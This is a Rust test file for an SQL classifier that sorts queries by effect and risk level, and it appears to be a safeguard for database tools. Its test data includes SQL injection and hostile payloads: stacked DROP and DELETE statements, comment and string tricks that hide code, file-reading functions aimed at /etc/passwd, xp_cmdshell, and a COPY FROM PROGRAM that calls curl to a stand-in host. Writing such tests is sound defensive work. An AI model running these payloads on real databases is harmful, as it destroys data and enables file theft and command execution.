//! Hostile and ordinary SQL texts.

#![cfg(feature = "classify")]
#![allow(clippy::unwrap_used, reason = "a test fails by panicking")]

use std::time::{Duration, Instant};

use ascend_sdk::{
    RiskLevel, SqlFacts, Verb,
    classify::{self, Classification, Dialect, Effect, SQL_LIMIT, Sql},
};
use proptest::prelude::*;

const DIALECTS: [Dialect; 5] =
    [Dialect::Any, Dialect::Sqlite, Dialect::Postgres, Dialect::MySql, Dialect::MsSql];

fn facts(found: Classification) -> SqlFacts {
    found.facts.sql.unwrap()
}

fn assert_effect(dialect: Dialect, text: &str, effect: Effect) {
    let found = Sql::new(dialect).classify(text);
    assert_eq!(found.effect, effect, "{dialect:?}: {text}: {found:?}");
}

fn assert_never_read(text: &str) {
    for dialect in DIALECTS {
        let found = Sql::new(dialect).classify(text);
        assert_ne!(found.effect, Effect::Read, "{dialect:?}: {text}: {found:?}");
    }
}

fn assert_executes(dialect: Dialect, texts: &[&str]) {
    for text in texts {
        assert_effect(dialect, text, Effect::Execute);
    }
}

#[test]
fn the_verbs_of_ascends_table() {
    for (text, effect, risk) in [
        ("SELECT * FROM users WHERE active = true", Effect::Read, RiskLevel::Low),
        ("INSERT INTO users (id, name) VALUES (1, 'a')", Effect::Write, RiskLevel::Medium),
        ("UPDATE users SET name = 'b' WHERE id = 1", Effect::Write, RiskLevel::Medium),
        ("DELETE FROM users WHERE last_login < '2025-01-01'", Effect::Delete, RiskLevel::High),
    ] {
        for dialect in DIALECTS {
            let found = Sql::new(dialect).classify(text);
            assert_eq!(
                (found.effect, found.risk_level),
                (effect, risk),
                "{dialect:?}: {text}: {found:?}"
            );
            let sql = facts(found);
            assert!(sql.parsed && !sql.unbounded, "{text}");
            assert_eq!((sql.statements, sql.tables), (1, vec!["users".to_owned()]), "{text}");
        }
    }
}

#[test]
fn ordinary_reads_are_reads_in_every_dialect() {
    for text in [
        "SELECT 1",
        "  select count(*), avg(amount) from events where kind = 'click' group by day having count(*) > 3 order by 1;",
        "SELECT u.name, coalesce(sum(o.total), 0) AS spent FROM users u LEFT JOIN orders o ON o.user_id = u.id GROUP BY u.name",
        "WITH recent AS (SELECT * FROM events WHERE at > '2026-01-01') SELECT kind, count(*) FROM recent GROUP BY kind",
        "SELECT a FROM t UNION ALL SELECT b FROM s EXCEPT SELECT c FROM r",
        "SELECT CASE WHEN a > 1 THEN 'x' ELSE 'y' END FROM t WHERE b IN (1, 2, 3) AND c BETWEEN 1 AND 2 AND d LIKE 'x%' AND e IS NOT NULL",
        "SELECT row_number() OVER (PARTITION BY kind ORDER BY at) FROM events",
        "SELECT * FROM (SELECT id FROM t) AS s WHERE EXISTS (SELECT 1 FROM r WHERE r.id = s.id)",
        "SELECT 'DROP TABLE users; DELETE FROM x' AS harmless -- and a comment",
        "SELECT /* why not */ 1",
        "SELECT replace(name, 'a', 'b') FROM t",
        "SELECT CAST(a AS INTEGER) FROM t",
    ] {
        for dialect in DIALECTS {
            assert_effect(dialect, text, Effect::Read);
        }
    }
}

#[test]
fn ctes_that_write() {
    for text in [
        "WITH gone AS (DELETE FROM users RETURNING *) SELECT * FROM gone",
        "WITH x AS (INSERT INTO t VALUES (1) RETURNING *) SELECT * FROM x",
        "WITH x AS (UPDATE t SET a = 1 RETURNING *) SELECT * FROM x",
        "WITH x AS (SELECT 1) DELETE FROM users",
        "WITH x AS (SELECT 1) INSERT INTO t SELECT * FROM x",
        "SELECT * FROM (DELETE FROM users RETURNING id) AS x",
    ] {
        assert_never_read(text);
    }
    let found = Sql::new(Dialect::Postgres)
        .classify("WITH gone AS (DELETE FROM users RETURNING *) SELECT * FROM gone");
    assert_eq!((found.effect, found.risk_level), (Effect::Delete, RiskLevel::Critical));
    let sql = facts(found);
    assert_eq!(sql.kinds, ["delete", "select"]);
    assert!(sql.unbounded && sql.tables.contains(&"users".to_owned()));
}

#[test]
fn explain_analyze_runs_what_it_explains() {
    for text in [
        "EXPLAIN ANALYZE DELETE FROM users",
        "EXPLAIN (ANALYZE, BUFFERS) DELETE FROM users WHERE id = 1",
        "EXPLAIN (ANALYZE true) UPDATE t SET a = 1",
        "EXPLAIN ANALYZE INSERT INTO t VALUES (1)",
        "EXPLAIN EXPLAIN DELETE FROM t",
        "DESCRIBE ANALYZE DELETE FROM t",
    ] {
        assert_never_read(text);
    }
    assert_effect(Dialect::Postgres, "EXPLAIN ANALYZE SELECT * FROM users", Effect::Read);
    assert_effect(Dialect::Sqlite, "EXPLAIN QUERY PLAN SELECT * FROM users", Effect::Read);
}

#[test]
fn select_into_makes_a_table_or_a_file() {
    for text in [
        "SELECT * INTO copy FROM users",
        "SELECT * INTO TEMP copy FROM users",
        "SELECT * FROM users INTO OUTFILE '/tmp/x'",
        "SELECT * FROM users INTO DUMPFILE '/tmp/x'",
        "SELECT 1 INTO @x",
        "SELECT a FROM t UNION SELECT b INTO c FROM s",
        "WITH x AS (SELECT 1 AS a) SELECT a INTO y FROM x",
    ] {
        assert_never_read(text);
    }
    let sql = facts(Sql::new(Dialect::Postgres).classify("SELECT * INTO copy FROM users"));
    assert_eq!(sql.tables, ["copy", "users"]);
}

#[test]
fn locking_reads() {
    for text in [
        "SELECT * FROM users FOR UPDATE",
        "SELECT * FROM users FOR SHARE",
        "SELECT * FROM users FOR NO KEY UPDATE SKIP LOCKED",
        "SELECT * FROM users LOCK IN SHARE MODE",
        "SELECT * FROM users WITH (TABLOCKX)",
        "SELECT * FROM (SELECT * FROM users FOR UPDATE) x",
    ] {
        assert_never_read(text);
    }
}

#[test]
fn stacked_statements_execute() {
    for text in [
        "SELECT 1; DELETE FROM users",
        "SELECT 1; SELECT 2",
        "SELECT 1;;;DROP TABLE users;",
        "BEGIN; UPDATE t SET a = 1; COMMIT",
        "SELECT 1\n;\n-- nothing\nDELETE FROM users",
        "INSERT INTO t VALUES (1); DELETE FROM t",
    ] {
        for dialect in DIALECTS {
            assert_effect(dialect, text, Effect::Execute);
        }
    }
    let sql = facts(Sql::new(Dialect::Sqlite).classify("SELECT 1; DROP TABLE users"));
    assert_eq!((sql.kinds, sql.statements), (vec!["drop".to_owned(), "select".to_owned()], 2));
}

#[test]
fn statements_stacked_without_a_semicolon() {
    // Transact-SQL needs none, and the parser takes the second verb for an alias.
    for text in [
        "SELECT 1 DELETE FROM users",
        "SELECT a FROM t DELETE FROM users",
        "SELECT 1 DROP TABLE users",
        "SELECT 1 EXEC xp_cmdshell 'dir'",
        "SELECT 1 UPDATE t SET a = 1",
        "SELECT 1 TRUNCATE TABLE users",
        "SELECT * FROM t SHUTDOWN",
        "SELECT * FROM t x KILL 53",
    ] {
        assert_effect(Dialect::MsSql, text, Effect::Execute);
        assert_effect(Dialect::Any, text, Effect::Execute);
    }
    let sql = facts(Sql::new(Dialect::MsSql).classify("SELECT 1 DELETE FROM users"));
    assert!(sql.kinds.contains(&"delete".to_owned()), "{sql:?}");
}

#[test]
fn comments_that_hide_code() {
    for text in [
        "SELECT 1 /*! ; DROP TABLE users */",
        "SELECT 1 /*!50000DROP*/",
        "/*M!100100 DROP TABLE users */",
        "SELECT /*+ SET_VAR(sql_safe_updates = 0) */ 1",
        // SQLite and MySQL end the comment at the first `*/`, PostgreSQL at the last.
        "SELECT 1 /* /* */ ; DELETE FROM users; /* */ */",
        "SELECT 1 /* /* */ ; DELETE FROM users --*/",
        // Some end the comment at the carriage return.
        "SELECT 1 -- x\rDELETE FROM users",
        "SELECT 1 -- x\u{2028}; DELETE FROM users",
        "SELECT 1 -- x\u{85}; DELETE FROM users",
        "DELETE/**/FROM/**/users",
        "SELECT 1 /* never closed",
    ] {
        assert_never_read(text);
    }
    // `--1` is minus minus one in MySQL.
    assert_effect(Dialect::MySql, "SELECT 2--1\n; DROP TABLE users", Effect::Execute);
    // A comment in MySQL, an operator in PostgreSQL, nothing in SQLite.
    assert_effect(Dialect::Any, "SELECT 1 # 2\n, 3", Effect::Execute);
    let sql = facts(Sql::new(Dialect::MySql).classify("SELECT 1 /*!50000DROP TABLE users*/"));
    assert!(!sql.parsed && sql.kinds.contains(&"drop".to_owned()), "{sql:?}");
}

#[test]
fn strings_that_end_elsewhere() {
    assert_effect(Dialect::MySql, r"SELECT '\'; DROP TABLE users; -- '", Effect::Execute);
    assert_effect(Dialect::MySql, r#"SELECT "\"; DROP TABLE users; -- ""#, Effect::Execute);
    assert_effect(Dialect::MySql, "SELECT $$; DROP TABLE users; -- $$", Effect::Execute);
    assert_effect(Dialect::Sqlite, "SELECT $$; DROP TABLE users; -- $$", Effect::Execute);
    assert_effect(Dialect::Sqlite, r"SELECT E'\'; DROP TABLE users; --'", Effect::Execute);
    assert_effect(Dialect::Postgres, "SELECT $x$; DROP TABLE users; -- $x$", Effect::Read);
    assert_effect(Dialect::Sqlite, r"SELECT * FROM t WHERE a LIKE 'x\_%' ESCAPE '\'", Effect::Read);
    assert_never_read("SELECT 'never closed");
    assert_never_read("SELECT \"never closed");
}

/// Texts of which the parser sees another part than the database.
#[test]
fn texts_that_go_on_where_the_parser_stops() {
    for text in [
        "SELECT 1 END, load_extension('/tmp/x')",
        "SELECT 1 END, pg_read_file('/etc/passwd')",
        "SELECT password END FROM secrets",
        "SELECT 1 END; COPY users TO PROGRAM 'sh'",
        "SELECT 1 END; DO $$BEGIN DELETE FROM users; END$$",
        "INSERT INTO t SELECT 1 END FROM secrets",
    ] {
        for dialect in DIALECTS {
            assert_effect(dialect, text, Effect::Execute);
        }
    }
    for dialect in [Dialect::Sqlite, Dialect::Any] {
        assert_executes(
            dialect,
            &[
                "SELECT $a::varchar(/*),load_extension('/tmp/x')--*/10)",
                "SELECT $a::varchar(/*);DELETE FROM users;--*/10)",
                "SELECT @a::varchar(/*);DELETE FROM users;--*/10)",
                "SELECT :a::varchar(/*);DELETE FROM users;--*/10)",
                "SELECT $a(/*);DELETE FROM users;--*/10)",
                "INSERT INTO t VALUES ($a::varchar(/*));DROP TABLE users;--*/10))",
            ],
        );
    }
    assert_executes(
        Dialect::Postgres,
        &[
            "SELECT $€$ /* $€$; DROP TABLE users; --*/",
            "SELECT $€$ /* $€$, pg_read_file('/etc/passwd') --*/",
            "SELECT $e\u{301}$ /* $e\u{301}$; DROP TABLE users; --*/",
            "INSERT INTO t VALUES (1) RETURNING E'a'\n'\\''; DROP TABLE users; --'",
            "UPDATE t SET a = 1 WHERE id = 1 RETURNING E'a'\n'\\''; DROP TABLE users; --'",
            "SELECT 'a' /* */ 'b'",
            "INSERT INTO t VALUES (1) RETURNING my_type 'x'",
        ],
    );
    assert_executes(
        Dialect::MsSql,
        &["SELECT x'\\' FROM (SELECT 1 AS x) AS t; DROP TABLE users; --'", "SELECT 1 SETUSER"],
    );
    for dialect in [Dialect::Postgres, Dialect::Any] {
        assert_executes(
            dialect,
            &[
                "SELECT ('/etc/passwd'::text).pg_read_file",
                "SELECT (1234).pg_terminate_backend",
                "SELECT ('s'::regclass).nextval",
                "SELECT p.pg_read_file FROM unnest(ARRAY['/etc/passwd']) AS p",
            ],
        );
    }
    assert_executes(
        Dialect::MySql,
        &[
            "SHOW TRIGGERS WHERE my_function_that_deletes()",
            "SHOW INDEX FROM t WHERE sleep(1000)",
            "SHOW TRIGGERS WHERE (SELECT count(*) FROM secrets) > 3",
        ],
    );
    // What looks alike and is plain.
    assert_effect(Dialect::Postgres, "SELECT a FROM t WHERE id = $1 AND b = $2", Effect::Read);
    assert_effect(Dialect::Postgres, "SELECT a::text FROM t WHERE b = 'x'", Effect::Read);
    assert_effect(Dialect::Sqlite, "SELECT a FROM t WHERE id = $id AND b = :b", Effect::Read);
    assert_effect(Dialect::Sqlite, "SELECT CASE WHEN a THEN 1 END FROM t", Effect::Read);
    assert_effect(Dialect::Sqlite, "SELECT x'00ff'", Effect::Read);
    assert_effect(Dialect::MySql, "SHOW TABLES", Effect::Read);
    assert_effect(Dialect::MySql, "SHOW GRANTS", Effect::Read);
    assert_effect(Dialect::Postgres, "SHOW search_path", Effect::Read);
}

#[test]
fn copy_executes() {
    for text in [
        "COPY users TO '/tmp/users'",
        "COPY users FROM PROGRAM 'curl evil.example'",
        "COPY (SELECT * FROM users) TO STDOUT",
        "COPY (DELETE FROM users RETURNING *) TO '/tmp/x'",
    ] {
        for dialect in DIALECTS {
            let found = Sql::new(dialect).classify(text);
            assert_eq!(
                (found.effect, found.risk_level),
                (Effect::Execute, RiskLevel::Critical),
                "{dialect:?}: {text}"
            );
        }
    }
}

#[test]
fn pragmas() {
    for text in [
        "PRAGMA table_info(users)",
        "PRAGMA main.table_info('users')",
        "PRAGMA user_version",
        "PRAGMA database_list",
        "SELECT * FROM pragma_table_info('users')",
    ] {
        assert_effect(Dialect::Sqlite, text, Effect::Read);
    }
    for text in [
        "PRAGMA user_version = 3",
        "PRAGMA user_version(3)",
        "PRAGMA journal_mode = DELETE",
        "PRAGMA journal_mode",
        "PRAGMA writable_schema = ON",
        "PRAGMA wal_checkpoint(TRUNCATE)",
        "PRAGMA optimize",
        "PRAGMA incremental_vacuum",
        "PRAGMA key = 'x'",
        "PRAGMA temp_store_directory = '/tmp'",
        "SELECT * FROM pragma_journal_mode('x')",
        "SELECT * FROM pragma_optimize",
    ] {
        assert_effect(Dialect::Sqlite, text, Effect::Execute);
        if text.starts_with("PRAGMA") {
            assert_never_read(text);
        }
    }
    for dialect in [Dialect::Postgres, Dialect::MySql, Dialect::MsSql, Dialect::Any] {
        assert_effect(dialect, "PRAGMA table_info(users)", Effect::Execute);
    }
}

#[test]
fn functions_with_effects_execute() {
    assert_executes(
        Dialect::Sqlite,
        &[
            "SELECT load_extension('x')",
            "SELECT LOAD_EXTENSION('x', 'y') FROM t",
            "SELECT \"load_extension\"('x')",
            "SELECT [load_extension]('x')",
            "SELECT writefile('/tmp/x', 'y')",
            "SELECT readfile('/etc/passwd')",
            "SELECT edit('x')",
            "SELECT fts3_tokenizer('x', x'00')",
            "SELECT * FROM fsdir('/')",
            "SELECT * FROM fsdir WHERE path = '/'",
            "SELECT * FROM t WHERE a = my_function(b)",
            "SELECT 1 ORDER BY my_function()",
            "SELECT count(*) FILTER (WHERE my_function()) FROM t",
            "SELECT sum(a) OVER (ORDER BY my_function()) FROM t",
            "VALUES (my_function())",
            "SELECT * FROM t JOIN s ON my_function()",
            "SELECT 1 LIMIT my_function()",
            "WITH x AS (SELECT my_function()) SELECT 1",
            "SELECT lower(upper(my_function()))",
        ],
    );
    assert_executes(
        Dialect::Postgres,
        &[
            "SELECT pg_read_file('/etc/passwd')",
            "SELECT pg_catalog.pg_read_file('/etc/passwd')",
            "SELECT pg_ls_dir('/')",
            "SELECT lo_import('/etc/passwd')",
            "SELECT lo_export(1, '/tmp/x')",
            "SELECT * FROM dblink('x', 'DELETE FROM users') AS t(a int)",
            "SELECT dblink_exec('x', 'DELETE FROM users')",
            "SELECT nextval('s')",
            "SELECT setval('s', 1)",
            "SELECT pg_terminate_backend(1)",
            "SELECT pg_sleep(10)",
            "SELECT pg_advisory_lock(1)",
            "SELECT set_config('a', 'b', false)",
            "SELECT query_to_xml('DELETE FROM users', true, true, '')",
            "SELECT public.lower('x')",
            "SELECT \"lower\"('x')",
            "SELECT 'x'::my_type",
            "SELECT CAST('x' AS my_type)",
            "SELECT my_type 'x'",
            "SELECT '{x}'::my_type[]",
            "SELECT 'x'::string",
            "SELECT s.nextval",
            "SELECT $1$; DROP TABLE users; -- $1$",
            "SELECT a$$ FROM t; DROP TABLE users; -- $$",
        ],
    );
    assert_executes(
        Dialect::MySql,
        &[
            "SELECT load_file('/etc/passwd')",
            "SELECT sleep(10)",
            "SELECT benchmark(1000000000, md5('x'))",
            "SELECT get_lock('x', 10)",
            "SELECT sys_exec('id')",
            "SELECT @x := 1",
            "SELECT last_insert_id(7)",
        ],
    );
    assert_executes(
        Dialect::MsSql,
        &[
            "EXEC xp_cmdshell 'dir'",
            "EXECUTE master..xp_cmdshell 'dir'",
            "SELECT * FROM OPENROWSET(BULK 'c:\\x', SINGLE_CLOB) AS x",
            "SELECT * FROM OPENQUERY(srv, 'DELETE FROM users')",
            "SELECT NEXT VALUE FOR seq",
            "SELECT * FROM srv.db.dbo.users",
            "EXEC('DROP TABLE users')",
        ],
    );
}

#[test]
fn custom_operators_execute() {
    assert_executes(
        Dialect::Postgres,
        &[
            "SELECT a OPERATOR(my.+) b FROM t",
            "SELECT a OPERATOR(pg_catalog.+) b FROM t",
            "SELECT a ^@# b FROM t",
            "SELECT a <%> b FROM t",
            "SELECT @ -5",
        ],
    );
}

#[test]
fn statements_that_change_the_database_itself() {
    for text in [
        "ATTACH DATABASE '/tmp/x' AS x",
        "ATTACH '/tmp/x' AS x",
        "DETACH DATABASE x",
        "VACUUM",
        "VACUUM INTO '/tmp/x'",
        "REINDEX",
        "ANALYZE",
        "SET search_path = evil",
        "SET GLOBAL general_log_file = '/tmp/x'",
        "CALL my_procedure()",
        "DO $$ BEGIN DELETE FROM users; END $$",
        "PREPARE x AS DELETE FROM users",
        "EXECUTE x",
        "DEALLOCATE x",
        "CREATE TABLE t (a int)",
        "CREATE TABLE t AS SELECT * FROM users",
        "CREATE VIEW v AS SELECT 1",
        "CREATE TRIGGER x AFTER INSERT ON t BEGIN DELETE FROM users; END",
        "CREATE EXTENSION dblink",
        "CREATE FUNCTION f() RETURNS int AS 'x' LANGUAGE c",
        "ALTER TABLE users ADD COLUMN x int",
        "GRANT ALL ON users TO evil",
        "REVOKE ALL ON users FROM good",
        "LOAD DATA INFILE '/etc/passwd' INTO TABLE t",
        "HANDLER users OPEN",
        "LOCK TABLES users WRITE",
        "KILL 5",
        "BEGIN",
        "COMMIT",
        "ROLLBACK",
        "SAVEPOINT x",
        "NOTIFY x",
        "DISCARD ALL",
        "RENAME TABLE a TO b",
        "USE other",
        "",
        " ; ",
        "-- only a comment",
        "I would like to see all users",
        "SELEC * FROM users",
        "\0",
        "SELECT 1\0; DELETE FROM users",
        "SELECT 1\u{a0}",
        "SELECT '\u{202e}'",
    ] {
        for dialect in DIALECTS {
            assert_effect(dialect, text, Effect::Execute);
        }
    }
}

#[test]
fn drops_and_truncations_are_critical_and_named() {
    for (text, kind) in [
        ("DROP TABLE users", "drop"),
        ("DROP TABLE IF EXISTS users", "drop"),
        ("DROP VIEW users", "drop"),
        ("DROP INDEX users", "drop"),
        ("DROP DATABASE users", "drop"),
        ("DROP SCHEMA users CASCADE", "drop"),
        ("DROP TRIGGER users", "drop"),
        ("TRUNCATE TABLE users", "truncate"),
        ("ALTER TABLE users DROP COLUMN name", "alter"),
        ("SELECT 1; DROP TABLE users", "drop"),
        ("dRoP/**/TABLE users", "drop"),
        ("DROP TABLE users that cannot be parsed", "drop"),
        ("EXPLAIN DROP TABLE users", "drop"),
        ("EXEC('DROP TABLE users')", "drop"),
        ("CREATE TRIGGER x AFTER INSERT ON t BEGIN DELETE FROM t; END; DROP TABLE users", "drop"),
    ] {
        for dialect in DIALECTS {
            let found = Sql::new(dialect).classify(text);
            assert!(found.effect >= Effect::Delete, "{dialect:?}: {text}: {found:?}");
            assert_eq!(found.risk_level, RiskLevel::Critical, "{dialect:?}: {text}");
            let sql = facts(found);
            assert!(sql.kinds.contains(&kind.to_owned()), "{dialect:?}: {text}: {sql:?}");
        }
    }
    let long = format!("DROP TABLE users {}", " ".repeat(SQL_LIMIT));
    assert!(facts(classify::sql(long)).kinds.contains(&"drop".to_owned()));
}

#[test]
fn all_rows() {
    let sqlite = Sql::new(Dialect::Sqlite);
    for text in [
        "DELETE FROM users",
        "DELETE FROM users WHERE 1 = 1",
        "DELETE FROM users WHERE true",
        "DELETE FROM users WHERE 'a' = 'a' OR NOT 0",
        "DELETE FROM users WHERE \"x\" = \"x\"",
        "DELETE FROM users WHERE id = id",
        "DELETE FROM users WHERE id = 7 OR 1 = 1",
        "DELETE FROM users WHERE (id = id OR 1 = 1) AND true",
    ] {
        let found = sqlite.classify(text);
        assert_eq!(
            (found.effect, found.risk_level),
            (Effect::Delete, RiskLevel::Critical),
            "{text}"
        );
        assert!(facts(found).unbounded, "{text}");
    }
    let found = sqlite.classify("UPDATE users SET a = 1");
    assert_eq!((found.effect, found.risk_level), (Effect::Write, RiskLevel::High));
    assert!(!facts(sqlite.classify("DELETE FROM users WHERE id = 1")).unbounded);
    assert!(!facts(sqlite.classify("DELETE FROM users WHERE id = 1 OR name = 'x'")).unbounded);
    let variable = "DELETE FROM users WHERE @a IS NULL";
    assert!(facts(Sql::new(Dialect::MySql).classify(variable)).unbounded);
}

#[test]
fn writes_by_other_words() {
    let kinds = |dialect, text: &str| facts(Sql::new(dialect).classify(text)).kinds;
    assert_effect(Dialect::Sqlite, "REPLACE INTO t VALUES (1)", Effect::Write);
    assert_eq!(
        kinds(Dialect::Sqlite, "REPLACE INTO t VALUES (1)"),
        ["insert", "replace", "select"]
    );
    assert_effect(Dialect::Sqlite, "INSERT OR REPLACE INTO t VALUES (1)", Effect::Write);
    let upsert = "INSERT INTO t (a) VALUES (1) ON CONFLICT (a) DO UPDATE SET a = 2";
    assert_effect(Dialect::Sqlite, upsert, Effect::Write);
    assert!(kinds(Dialect::Sqlite, upsert).contains(&"update".to_owned()));
    let merge = "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE";
    assert_effect(Dialect::Postgres, merge, Effect::Delete);
    assert_effect(
        Dialect::Postgres,
        "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = 1",
        Effect::Write,
    );
    assert_effect(Dialect::Sqlite, "INSERT INTO t SELECT load_extension('x')", Effect::Execute);
    assert_effect(Dialect::Sqlite, "DELETE FROM t WHERE load_extension(a)", Effect::Execute);
    assert_effect(Dialect::Sqlite, "UPDATE sqlite_schema SET sql = 'x'", Effect::Execute);
    assert_effect(Dialect::Postgres, "DELETE FROM pg_catalog.pg_authid", Effect::Execute);
}

#[test]
fn tables_compare_equal_however_they_are_written() {
    for text in [
        "SELECT * FROM Secrets",
        "SELECT * FROM \"SECRETS\"",
        "SELECT * FROM main.[secrets]",
        "SELECT (SELECT max(a) FROM `secrets`)",
        "SELECT * FROM t JOIN secrets USING (a)",
        "SELECT 1 FROM t WHERE a IN (SELECT a FROM secrets)",
        "WITH x AS (SELECT * FROM secrets) SELECT 1",
        "DROP TABLE secrets",
        "DELETE FROM \"secrets\" WHERE id = 1",
        "INSERT INTO secrets VALUES (1)",
        "PRAGMA table_info(secrets)",
    ] {
        let sql = facts(Sql::new(Dialect::Sqlite).classify(text));
        assert!(sql.tables.contains(&"secrets".to_owned()), "{text}: {sql:?}");
    }
}

#[test]
fn texts_over_the_limit_execute() {
    let fits = format!("SELECT '{}'", "x".repeat(SQL_LIMIT - 9));
    assert_eq!(fits.len(), SQL_LIMIT);
    assert_effect(Dialect::Sqlite, &fits, Effect::Read);
    assert_effect(Dialect::Sqlite, &format!("{fits} "), Effect::Execute);
}

/// Texts that nest as deep as 16 KiB admit.
fn deep_texts() -> Vec<String> {
    let repeat = |head: &str, part: &str, tail: &str| {
        let times = (SQL_LIMIT - head.len() - tail.len()) / part.len();
        format!("{head}{}{tail}", part.repeat(times))
    };
    let mut texts = Vec::new();
    for part in [
        "(",
        "((",
        "[",
        "{",
        "NOT ",
        "-",
        "- ",
        "+",
        "~",
        "!",
        "a.",
        "a(",
        "1+",
        "1 + ",
        "1||",
        "a AND ",
        "a OR ",
        "(SELECT ",
        "SELECT ",
        "CASE ",
        "CASE WHEN ",
        "CASE WHEN 1 THEN ",
        "EXPLAIN ",
        "EXISTS(",
        "CAST(",
        "ARRAY[",
        "ARRAY<",
        "STRUCT<",
        "INTERVAL ",
        "a IN (",
        "WITH a AS (",
        "BEGIN ",
        "IF 1 THEN ",
        "f(a,",
        "PREPARE a AS ",
        "1=",
        "'a'",
        "\"a\"",
        "a=>",
        "a->",
        "a::int",
        "PRIOR ",
        "TRIM(",
        "DATE ",
        "EXTRACT(",
        "N'a' ",
        "{a:",
        "LATERAL ",
        "FROM ",
        "FROM (",
        "@",
        "@@",
        "?",
        "$a",
        "$a$",
        "%",
        "FROM a JOIN ",
        "FROM (a JOIN ",
        "a COLLATE ",
        "1;",
        "VALUES (",
        "a BETWEEN ",
        "ALL (",
        "a -> ",
    ] {
        texts.push(repeat("SELECT ", part, "1"));
        texts.push(repeat("SELECT 1 FROM ", part, "1"));
        texts.push(repeat("", part, ""));
        texts.push(repeat("CREATE TABLE t (a ", part, ""));
    }
    for part in [
        "+1",
        " AND 1",
        " IS NULL",
        "::int",
        "[1]",
        ".a",
        " UNION SELECT 1",
        " COLLATE a",
        "!",
        ",1",
        " BETWEEN 1 AND 1",
        " LIKE 1",
        " AT TIME ZONE 'a'",
        "->'a'",
        ")",
        " IN (1)",
        ", (SELECT 1)",
        " FROM a JOIN a",
        " a JOIN a",
        ";SELECT 1",
        " NOTNULL",
        " ISNULL",
        "'a'",
        " OVER ()",
        " OR NOT 1",
        "||1",
        " <> ANY(1)",
        " EXCEPT SELECT 1",
        " IS DISTINCT FROM 1",
        "(+)",
        "%1",
        ":a",
    ] {
        texts.push(repeat("SELECT 1", part, ""));
        texts.push(repeat("SELECT a FROM t WHERE a", part, ""));
        texts.push(repeat("SELECT a FROM t", part, ""));
        texts.push(repeat("DELETE FROM t WHERE a", part, ""));
    }
    texts
}

#[test]
fn deep_nesting_neither_overflows_a_small_stack_nor_takes_long() {
    // An overflow aborts the process, and so this test.
    let worst = std::thread::Builder::new()
        .stack_size(64 * 1024)
        .spawn(|| {
            let mut worst = (Duration::ZERO, String::new());
            for text in deep_texts() {
                let started = Instant::now();
                // Every dialect's parser reads it.
                let _ = classify::sql(&text);
                let took = started.elapsed();
                if took > worst.0 {
                    worst = (took, text[..60].to_owned());
                }
            }
            worst
        })
        .unwrap()
        .join()
        .unwrap();
    assert!(worst.0 < Duration::from_secs(10), "{worst:?}");
}

#[test]
fn nesting_within_the_limit_does_not_take_long() {
    for (open, close) in [
        ("(", ")"),
        ("(SELECT ", ")"),
        ("(SELECT * FROM ", ") a"),
        ("CASE WHEN ", " THEN 1 END"),
        ("f(", ")"),
        ("a IN (", ")"),
        ("NOT (", ")"),
        ("CAST(", " AS int)"),
        ("EXISTS (SELECT ", ")"),
        ("(1 + ", ")"),
        ("((", "))"),
        ("(a JOIN ", ")"),
        ("ARRAY[", "]"),
        ("(VALUES (", "))"),
        ("(WITH a AS (SELECT 1) SELECT ", ")"),
    ] {
        for depth in [5, 9, 13, 15, 16, 17] {
            for head in ["SELECT ", "SELECT * FROM ", "DELETE FROM t WHERE ", "INSERT INTO t "] {
                for tail in ["", ")", " x x x"] {
                    let text =
                        format!("{head}{}1{}{tail}", open.repeat(depth), close.repeat(depth));
                    for dialect in DIALECTS {
                        let started = Instant::now();
                        let _ = Sql::new(dialect).classify(&text);
                        let took = started.elapsed();
                        assert!(took < Duration::from_secs(5), "{took:?}: {dialect:?}: {text}");
                    }
                }
            }
        }
    }
}

#[test]
fn a_classification_becomes_a_verb() {
    let verb = Verb::from(classify::sql("DELETE FROM users"));
    assert_eq!(verb.name, "delete");
    assert_eq!(verb.facts.risk_level, Some(RiskLevel::Critical));
    assert_eq!(verb.facts.sql.unwrap().kinds, ["delete"]);
}

#[test]
fn conditions() {
    let sqlite = Sql::new(Dialect::Sqlite);
    for text in [
        "id = 1",
        "last_login < '2025-01-01' AND active = 0",
        "(a = 1) OR (b = 2)",
        "id IN (SELECT user_id FROM orders)",
        "name = 'a; DROP TABLE users --'",
        "true",
    ] {
        assert_eq!(sqlite.check_condition(text), Ok(()), "{text}");
    }
    for text in [
        "",
        " ",
        "id = 1;",
        "id = 1; DROP TABLE users",
        "1 = 1) OR (1 = 1",
        "1 = 1) RETURNING (1",
        "id = 1 -- and nothing else",
        "id = 1 /* x */",
        "id = 1 /*",
        "id = 1 RETURNING *",
        "id = 1 ORDER BY id",
        "id = 1 LIMIT 5",
        "id = 1, name = 'x'",
        "load_extension('x')",
        "id = 'x",
        "id = \0",
        "id IN (DELETE FROM users)",
        "id = 1 AS x",
    ] {
        assert!(sqlite.check_condition(text).is_err(), "{text}");
    }
    assert!(sqlite.check_condition(&"(".repeat(20_000)).is_err());
}

fn hostile_text() -> impl Strategy<Value = String> {
    let word = prop::sample::select(vec![
        "SELECT",
        "DELETE",
        "FROM",
        "users",
        "WHERE",
        "DROP",
        "TABLE",
        "INSERT",
        "INTO",
        "VALUES",
        "UPDATE",
        "SET",
        "WITH",
        "AS",
        "(",
        ")",
        ";",
        ",",
        "'",
        "\"",
        "`",
        "[",
        "]",
        "--",
        "/*",
        "*/",
        "/*!",
        "\n",
        "\r",
        "\\",
        "$$",
        "$1",
        "=",
        "1",
        "x",
        "*",
        "PRAGMA",
        "EXPLAIN",
        "ANALYZE",
        "COPY",
        "UNION",
        "ALL",
        "NOT",
        "CASE",
        "WHEN",
        "END",
        "::",
        "->",
        "@",
        "E'",
        "load_extension",
        "lower",
        "EXEC",
        "BEGIN",
        "COMMIT",
        "\0",
    ]);
    prop::collection::vec((word, prop::sample::select(vec!["", " "])), 0..40)
        .prop_map(|parts| parts.into_iter().flat_map(|(word, space)| [word, space]).collect())
}

proptest! {
    #![proptest_config(ProptestConfig { failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn it_never_panics(text in any::<String>()) {
        let _ = classify::sql(text);
    }

    #[test]
    fn it_never_panics_on_words_of_sql(text in hostile_text()) {
        for dialect in DIALECTS {
            let found = Sql::new(dialect).classify(&text);
            let sql = facts(found.clone());
            if found.effect == Effect::Read {
                prop_assert!(sql.parsed && sql.statements == 1);
            }
            prop_assert_eq!(found.why.is_some(), found.effect == Effect::Execute);
        }
    }

    #[test]
    fn anything_behind_a_semicolon_executes(tail in "[a-z]{1,8}( [a-z]{1,8}){0,3}") {
